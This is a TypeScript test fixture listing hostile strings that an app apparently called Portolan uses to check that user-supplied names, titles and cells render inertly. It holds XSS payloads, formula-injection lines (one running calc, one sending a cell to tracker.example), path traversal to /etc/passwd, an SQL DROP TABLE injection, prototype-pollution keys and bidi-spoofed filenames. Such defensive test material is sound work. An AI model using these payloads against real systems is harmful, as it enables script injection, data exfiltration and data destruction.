/** What the scripts of the texts would do, if anything ever ran one. */
export const hostileMark = 'portolanHostileTextRan'
const run = `globalThis.${hostileMark}=1`

const bidi = {
  rlo: '\u202e',
  lro: '\u202d',
  rle: '\u202b',
  pdf: '\u202c',
  rli: '\u2067',
  lri: '\u2066',
  pdi: '\u2069',
}

/**
 * Texts that a stranger may have put into a name, a title or a cell (R31). Each of them has to be shown as what it is:
 * nothing of it runs, no element or attribute comes of it, and nothing around it is turned, cut or filled in.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'image with a handler': `<img class="hostile" src=x onerror="${run}">`,
  'svg with a handler': `"><svg class="hostile" onload="${run}"><animate onbegin="${run}">`,
  'end of an attribute': `' autofocus onfocus='${run}' x='`,
  'end of a title': `</title></style></textarea></noscript><iframe class="hostile" srcdoc="<script>${run}</script>">`,
  'style sheet': '<style class="hostile">*{display:none}</style>',
  comment: '<!-- --><b class="hostile">bold</b><!--',
  entities: '&lt;b&gt;&#x3c;script&#x3e;&amp;amp;&nbsp;&zwj;',
  'javascript address': `javascript:${run}`,
  'disguised javascript address': `\u0001 jAvA\tscript:${run}//%0a`,
  'file address': 'file:///etc/passwd',
  'data address': `data:text/html,<script>${run}</script>`,
  'app address': 'app://portolan/index.html#/settings',
  'Markdown link': `[harmless](javascript:${run}) <javascript:${run}>`,
  'Markdown image': `![x](https://tracker.example/pixel.png "${run}")`,
  'Markdown block': '# Title\n\n- [x] done\n\n> quote\n\n| a | b |\n|---|---|\n| `c` | **d** |',
  'text of the copy': '$t(ui:close) $t(ui:copyOf, {"what": "x"})',
  placeholder:
    '{{user}} {{- user}} {{count, number}} {{user.constructor}} ${user} #{user} %s %(user)s <1>x</1>',
  prototype: '__proto__',
  'member of every object': 'constructor',
  'formula that runs a command': "=cmd|' /C calc'!A0",
  'formula that asks a server': '=HYPERLINK("https://tracker.example/?x="&A1,"Click")',
  'formula by its sign': '@SUM(1+1)*cmd|calc',
  'number that is a formula': '+1-1',
  'right to left override': `invoice${bidi.rlo}fdp.exe`,
  'left to right override': `${bidi.lro}שלום${bidi.pdf}`,
  'embedding that never ends': `a${bidi.rle}b${bidi.rle}c`,
  'isolate that never ends': `a${bidi.rli}b${bidi.lri}c`,
  'ends without a beginning': `a${bidi.pdi}${bidi.pdi}${bidi.pdf}b`,
  'right to left': 'נמל אשדוד (2) – ليلى',
  'zero width': 'ad\u200bmin\u200c\u200d\ufeff\u2060@example.com',
  'only zero width': '\u200b\u200c\u200d\ufeff',
  'look-alike letters': 'аррӏе.example',
  'piled-up accents': `Z${'\u0351\u0489\u0334'.repeat(60)}`,
  'terminal colours': '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u009b2J',
  'control characters': 'a\u0000b\u0007c\u0008d\u000be\u007ff\u0085g',
  'line ends': 'one\rtwo\r\nthree\u2028four\u2029five',
  'lone surrogates': 'a\ud800b\udc00c',
  'characters that are none': 'a\ufffe\uffff\u{1ffff}b',
  'emoji sequences': '👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇩🇪👍🏿1️⃣',
  'flag halves': '🇩🇩🇪',
  'one long word': 'W'.repeat(2_000),
  '64 kB': `${'long name '.repeat(6_500)}end`,
  'only spaces': '\u00a0\u2003\u3000 ',
  path: '..\\..\\..\\windows\\system32 ../../../etc/passwd%00.png',
  query: `' OR 1=1; DROP TABLE items; -- " NEAR(* ) AND`,
  JSON: '{"a":"\\u003cscript>","__proto__":{"b":1}}',
}
